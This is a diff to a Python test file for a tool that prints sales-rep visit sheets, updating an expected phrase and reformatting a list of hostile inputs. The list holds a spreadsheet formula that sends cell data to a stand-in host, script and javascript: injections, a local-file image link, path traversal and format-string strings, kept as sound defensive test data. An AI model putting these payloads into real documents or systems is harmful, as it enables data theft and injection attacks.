@@ -39,7 +39,7 @@ def test_one_page_a_rep_whatever_the_number_of_visits(company: Company, stops: i
 
 def test_a_sheet_says_all_that_a_rep_needs(company: Company) -> None:
     (page,) = texts(printed(company()))
-    for words in ("Tuesday24November", "60ordersby31Mar2027", "5visits,", "HOWMANY", "WHOM", "WHATTOSAY", "09:20", "to10:30", "阪神メディカル,T.Endo",
+    for words in ("Tuesday24November", "60newordersby31Mar2027", "5visits,", "HOWMANY", "WHOM", "WHATTOSAY", "09:20", "to10:30", "阪神メディカル,T.Endo",
                   "Amagasaki,Tsukaguchi1-8", "28mindrive,lastvisit13daysago", "Trialbatchresult;askforQ1volumes", "met", "proposal", "order", "next",
                   "WHOLEROUTE", "IFONEFALLSTHROUGH", "HiranoSeiki", "KitagawaPrecision·confidential"):  # fmt: skip
         assert words in page, words
@@ -58,7 +58,8 @@ def test_a_japanese_company_gets_a_japanese_sheet(company: Company) -> None:
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?"&A1,"click")', "<script>alert(1)</script>", "<b>Miller & Sons <i>", '<img src="file:///etc/hosts"/>',
     '<a href="javascript:alert(1)">x</a>', "&nbsp;&#0;&#xD800;&bogus;", "\u202eevil\u202c شركة مثال", "A\u200bB\u200dC\ufeffD", "👨‍👩‍👧‍👦🏳️‍🌈 商店",
-    "Z" + "\u0301" * 300, "あ" * 5_000, "first\r\nsecond\u2028third", "bell\x07esc\x1b[31mred", "../../../../tmp/pwned", "%s%n%x {0} {name}", ".", "\u3000\u00a0 ",
+    "Z" + "\u0301" * 300, "あ" * 5_000, "first\r\nsecond\u2028third", "bell\x07esc\x1b[31mred",
+    "../../../../tmp/pwned", "%s%n%x {0} {name}", ".", "\u3000\u00a0 ",
     "W" * 400, "שלום עולם",
 )  # fmt: skip
 
